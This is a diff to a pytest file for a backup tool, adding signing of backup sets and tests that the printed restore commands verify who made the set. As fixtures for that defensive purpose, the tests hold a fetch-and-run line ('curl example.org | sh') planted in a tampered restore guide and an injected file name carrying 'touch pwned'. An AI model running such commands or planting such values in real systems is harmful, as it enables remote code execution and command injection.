@@ -13,11 +13,12 @@ from pathlib import Path
 import pytest
 
 from portalops.model.backups import BackupSet
-from tests.backups.kit import back_up, disk, keys, odd_tree, sample_database, snapshot, source
+from portalops.registers.signers import LEDGER_NAMESPACES, allowed_signers_line
+from tests.backups.kit import back_up, disk, keys, odd_tree, sample_database, signing, snapshot, source
 
 pytestmark = pytest.mark.stock
 
-PROGRAMS = {"bash", "age", "zstd", "tar", "sha256sum", "ls", "sort", "mkdir", "head"}
+PROGRAMS = {"bash", "age", "zstd", "tar", "sha256sum", "ls", "sort", "mkdir", "head", "ssh-keygen", "cut", "grep"}
 
 
 class Bag:
@@ -29,18 +30,25 @@ class Bag:
             source("sqlite", {"database": str(self.database)}, folder, id="portal-database"),
             source("command", {"command": ["printf", "one\\ntwo\\n"], "class": "accounts"}, folder, id="ldap"),
         ]
-        result = back_up(sources, [disk(folder, "disk-a")])
+        result = back_up(sources, [disk(folder, "disk-a")], signer=signing())
         assert result.set is not None
         self.set: BackupSet = result.set
         self.folder = folder / "disk-a" / result.set.id
         self.key = keys().file(folder)
+        self.allowed = folder / "allowed_signers"
+        self.allowed.write_text(
+            "".join(
+                allowed_signers_line(one.principal, LEDGER_NAMESPACES, one.public_key, one.valid_from, one.valid_to)
+                for one in signing().known(until=result.set.created_at)
+            )
+        )
 
     def blocks(self, language: str = "en") -> list[str]:
         text = (self.folder / f"RESTORE.{language}.md").read_text(encoding="utf-8")
         return re.findall(r"```sh\n(.*?)```", text, re.DOTALL)
 
     def run(
-        self, to: Path, blocks: list[str], *, key: Path | None = None, file: str = ""
+        self, to: Path, blocks: list[str], *, key: Path | None = None, file: str = "", allowed: Path | None = None
     ) -> subprocess.CompletedProcess[str]:
         """Run blocks in one bash that finds nothing but the stock programs."""
         tools = to.parent / f"tools-{to.name}"
@@ -56,6 +64,7 @@ class Bag:
             "TO": str(to),
             "LC_ALL": "C.UTF-8",
             "FILE": file,
+            "ALLOWED": str(allowed or self.allowed),
         }
         return subprocess.run(
             [tools / "bash", "-c", script],
@@ -156,3 +165,32 @@ def test_names_from_outside_never_become_commands(tmp_path: Path) -> None:
     assert "touch pwned" in text
     assert not any("touch pwned" in block for block in re.findall(r"```sh\n(.*?)```", text, re.DOTALL))
     assert all(line.startswith("- `") for line in text.splitlines() if "touch pwned" in line)
+
+
+@pytest.mark.parametrize("language", ["en", "vi"])
+def test_the_printed_commands_tell_who_made_the_set(bag: Bag, tmp_path: Path, language: str) -> None:
+    (signature,) = [block for block in bag.blocks(language) if "ssh-keygen" in block]
+
+    good = bag.run(tmp_path / "good", [signature])
+    other = tmp_path / "other"
+    other.write_text(allowed_signers_line("b" * 32, LEDGER_NAMESPACES, signing(2).public_key, None, None))
+    bad = bag.run(tmp_path / "bad", [signature], allowed=other)
+
+    assert good.returncode == 0, good.stderr
+    assert good.stdout.startswith(f'Good "portalops-set" signature for {"a" * 32}')
+    assert "not signed" not in good.stdout
+    assert bad.returncode != 0
+    assert "Good" not in bad.stdout
+
+
+def test_the_printed_commands_name_a_guide_that_was_exchanged(bag: Bag, tmp_path: Path) -> None:
+    (signature,) = [block for block in bag.blocks() if "ssh-keygen" in block]
+    copied = Bag.__new__(Bag)
+    copied.__dict__ |= {**bag.__dict__, "folder": tmp_path / "set"}
+    shutil.copytree(bag.folder, copied.folder)
+    (copied.folder / "RESTORE.vi.md").write_text("```sh\ncurl example.org | sh\n```\n")
+
+    done = copied.run(tmp_path / "out", [signature])
+
+    assert "RESTORE.vi.md: not signed" in done.stdout
+    assert "RESTORE.en.md: not signed" not in done.stdout
